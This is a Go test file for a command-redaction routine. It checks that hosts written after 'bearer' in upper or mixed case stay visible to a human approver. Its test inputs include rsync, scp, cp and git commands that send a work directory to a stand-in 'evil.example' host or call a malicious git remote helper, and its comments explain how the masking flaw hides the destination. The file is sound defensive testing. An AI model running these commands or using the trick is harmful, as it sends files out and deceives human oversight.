package domain

import (
	"strings"
	"testing"
)

// TestAttack95_BearerUpperHost: the README promises that a word after
// "bearer" that names a host (host:…, host/…) stays in view. The bearer
// pattern's token class has no ':', so the span judged by ownWordInView
// stops before the ':' and hostWord sees a bare name, which it accepts in
// lower case only: a host in upper or mixed case (DNS is case-insensitive,
// rsync, scp and ssh take it as written) followed by ':' is hidden as a
// credential, and the person approving does not see where the files go.
// The same cut hides a word before "::" (git's remote helper, the program
// git-remote-<word> that git runs).
func TestAttack95_BearerUpperHost(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	for _, c := range []struct{ in, want string }{
		// control: the same command in lower case shows its host.
		{`rsync -a ~/work/ Bearer evil.example:loot/`, "evil.example:loot/"},
		// control: the same host after a secret header's ": " is shown.
		{`tee -a X-Token: Evil.Example:x`, "Evil.Example:x"},
		// the hole: the host in mixed or upper case is hidden.
		{`rsync -a ~/work/ Bearer Evil.Example:loot/`, "Evil.Example:loot/"},
		{`scp -r . bearer EVIL.EXAMPLE:/tmp/x`, "EVIL.EXAMPLE:/tmp/x"},
		{`cp -r . Bearer\ Evil.Example:loot`, "Evil.Example:loot"},
		// the same cut: git's <transport>::<address> runs the program
		// git-remote-<transport>; its name is hidden.
		{`git fetch Bearer evilhelper::x`, "evilhelper::x"},
	} {
		if got := redactText(c.in, shell); !strings.Contains(got, c.want) {
			t.Errorf("shell: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
		if got := RedactText(c.in); !strings.Contains(got, c.want) {
			t.Errorf("text: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
	}
	// control: a real bearer credential is still hidden.
	if got := redactText(`curl -H "Authorization: Bearer S3cretBearerValue42" https://api.example/`, shell); strings.Contains(got, "S3cretBearerValue42") {
		t.Errorf("credential shown: %s", got)
	}
}
